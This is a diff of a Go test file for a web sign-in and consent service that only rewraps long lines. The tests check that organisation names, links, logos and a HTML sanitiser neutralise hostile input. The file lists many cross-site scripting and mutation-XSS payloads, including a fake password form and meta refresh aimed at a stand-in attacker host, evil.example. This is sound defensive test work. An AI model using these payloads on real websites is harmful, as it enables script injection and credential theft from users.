@@ -33,7 +33,8 @@ func TestOrganisationOnPages(t *testing.T) {
 	if want := `It belongs to Acme &lt;b&gt;. <a href="https://acme.example/?a=1&amp;b" rel="noopener noreferrer">acme.example</a>`; !strings.Contains(consent, want) {
 		t.Errorf("the consent page has no %s:\n%s", want, consent)
 	}
-	if want := `<div class="notice info">`; !strings.Contains(signIn, want) || !strings.Contains(signIn, "<p>We are <b>moving</b>.</p>") || strings.Contains(consent, "moving") {
+	if want := `<div class="notice info">`; !strings.Contains(signIn, want) || !strings.Contains(signIn, "<p>We are <b>moving</b>.</p>") ||
+		strings.Contains(consent, "moving") {
 		t.Errorf("the sign-in page has no message, or the consent page has one:\n%s", signIn)
 	}
 	if !strings.Contains(signIn, `href="https://acme.example/help" rel="noopener noreferrer">Help`) {
@@ -45,19 +46,28 @@ func TestOrganisationOnPages(t *testing.T) {
 	}
 	other := views()["sign_in"]
 	other.Client.ID = "other"
-	if body := render(p, other).Body.String(); strings.Contains(body, "Acme") || strings.Contains(body, "moving") || !strings.Contains(body, "help.example.com") {
+	if body := render(p, other).Body.String(); strings.Contains(body, "Acme") || strings.Contains(body, "moving") ||
+		!strings.Contains(body, "help.example.com") {
 		t.Errorf("the page of another client shows the organisation:\n%s", body)
 	}
-	if body := render(withOrganisation(t, &web.Organisation{SupportEmail: "help@acme.example"}), views()["sign_in"]).Body.String(); !strings.Contains(body, `href="mailto:help@acme.example"`) {
+	if body := render(withOrganisation(t, &web.Organisation{SupportEmail: "help@acme.example"}),
+		views()["sign_in"]).Body.String(); !strings.Contains(body, `href="mailto:help@acme.example"`) {
 		t.Error("without a site for help the footer has no address")
 	}
 	t.Run("attack 276: links and logos of organisations", func(t *testing.T) {
 		t.Parallel()
-		for _, evil := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example", "vbscript:x", "https://a\nb", "mailto:x@y"} {
-			p := withOrganisation(t, &web.Organisation{Name: `"><script>alert(1)</script>`, SiteURL: evil, SupportURL: strings.TrimPrefix(evil, "mailto:x@y"), SupportEmail: `x"><script>`, Logo: []byte("<svg onload=alert(1)>")})
+		for _, evil := range []string{
+			"javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example",
+			"vbscript:x", "https://a\nb", "mailto:x@y",
+		} {
+			p := withOrganisation(t, &web.Organisation{
+				Name: `"><script>alert(1)</script>`, SiteURL: evil,
+				SupportURL: strings.TrimPrefix(evil, "mailto:x@y"), SupportEmail: `x"><script>`, Logo: []byte("<svg onload=alert(1)>"),
+			})
 			for _, name := range []string{"sign_in", "consent", "choose"} {
 				body := render(p, views()[name]).Body.String()
-				if strings.Contains(withoutOurs(body), "<script") || strings.Contains(body, `href="`+html.EscapeString(evil)) || strings.Contains(body, "onload=") || strings.Contains(body, `class="logo"`) {
+				if strings.Contains(withoutOurs(body), "<script") || strings.Contains(body, `href="`+html.EscapeString(evil)) ||
+					strings.Contains(body, "onload=") || strings.Contains(body, `class="logo"`) {
 					t.Errorf("page %q runs what an organisation says (%q):\n%s", name, evil, body)
 				}
 			}
@@ -87,7 +97,8 @@ func TestPrivateOrganisation(t *testing.T) {
 	for name, v := range views() {
 		v.Client = shop
 		body := strings.ToLower(render(p, v).Body.String())
-		if shows := strings.Contains(body, "acme") || strings.Contains(body, "/assets/organisation"); shows && v.Template != "consent" && v.Nav == nil {
+		if shows := strings.Contains(body, "acme") || strings.Contains(body, "/assets/organisation"); shows &&
+			v.Template != "consent" && v.Nav == nil {
 			t.Errorf("page %q shows a private organisation:\n%s", name, body)
 		}
 		if !strings.Contains(body, "acme.example/help") && v.Template == "consent" && !v.Mobile {
@@ -159,7 +170,10 @@ func TestCleanHTML(t *testing.T) {
 		{"plain & simple < 3", "plain &amp; simple &lt; 3"},
 		{"<p>One<br>two <strong>three</strong></p>", "<p>One<br>two <strong>three</strong></p>"},
 		{"<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"},
-		{`<a href="https://x.example/?a=1&amp;b" target="_blank" onclick="x">x</a>`, `<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer">x</a>`},
+		{
+			`<a href="https://x.example/?a=1&amp;b" target="_blank" onclick="x">x</a>`,
+			`<a href="https://x.example/?a=1&amp;b" rel="noopener noreferrer">x</a>`,
+		},
 		{`<a href="mailto:x@x.example">x</a>`, `<a href="mailto:x@x.example" rel="noopener noreferrer">x</a>`},
 		{`<h1 class="x">Big</h1><div>text</div>`, "Bigtext"},
 		{"{{.}} ${7*7}", "{{.}} ${7*7}"},
@@ -178,19 +192,31 @@ func TestCleanHTML(t *testing.T) {
 
 // mutations are pieces of HTML that have passed other sanitisers, or that browsers read differently from how they look.
 var mutations = []string{
-	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
+	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
+	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
 	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>`,
-	`<template><script>alert(1)</script></template>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>",
-	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`, `<p style="background:url(x)">x</p>`,
-	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<form action=https://evil.example><input name=password><button>Sign in</button></form>`,
-	`<form><form action=https://evil.example>`, `<p id=problem name=csrf class=notice>x</p>`, `<base href=https://evil.example>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`,
-	`<link rel=stylesheet href=https://evil.example>`, `<object data=x>`, `<embed src=x>`, `<video><source onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
-	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<select><style></select><img src=x onerror=alert(1)></style>`,
-	`<b><a href="https://ok.example"><table><td><a href="https://ok.example">x`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
-	`<p title='"><img src=x onerror=alert(1)>'>`, strings.Repeat("<b>", 5000) + "x", strings.Repeat("<p><ul><li>", 300), "<\x00script>alert(1)</script>", "\xff<img src=x onerror=alert(1)>",
-	`</main></body><script>alert(1)</script>`, `<details ontoggle=alert(1) open>`, `<marquee onstart=alert(1)>`, `<a href="https://ok.example" ping="https://evil.example">x</a>`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+	`<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)>`,
+	`<template><script>alert(1)</script></template>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
+	"<a href=\"java\tscript:alert(1)\">x</a>",
+	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="//evil.example">x</a>`, `<a xlink:href="javascript:alert(1)">x</a>`,
+	`<p style="background:url(x)">x</p>`,
+	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<form action=https://evil.example><input name=password><button>Sign in</button></form>`,
+	`<form><form action=https://evil.example>`, `<p id=problem name=csrf class=notice>x</p>`, `<base href=https://evil.example>`,
+	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
+	`<link rel=stylesheet href=https://evil.example>`, `<object data=x>`, `<embed src=x>`, `<video><source onerror=alert(1)>`,
+	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
+	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
+	`<select><style></select><img src=x onerror=alert(1)></style>`,
+	`<b><a href="https://ok.example"><table><td><a href="https://ok.example">x`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
+	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
+	`<p title='"><img src=x onerror=alert(1)>'>`, strings.Repeat("<b>", 5000) + "x", strings.Repeat("<p><ul><li>", 300),
+	"<\x00script>alert(1)</script>", "\xff<img src=x onerror=alert(1)>",
+	`</main></body><script>alert(1)</script>`, `<details ontoggle=alert(1) open>`, `<marquee onstart=alert(1)>`,
+	`<a href="https://ok.example" ping="https://evil.example">x</a>`,
 }
 
 // checkClean checks that the cleaned HTML is harmless and does not change when it is cleaned again.
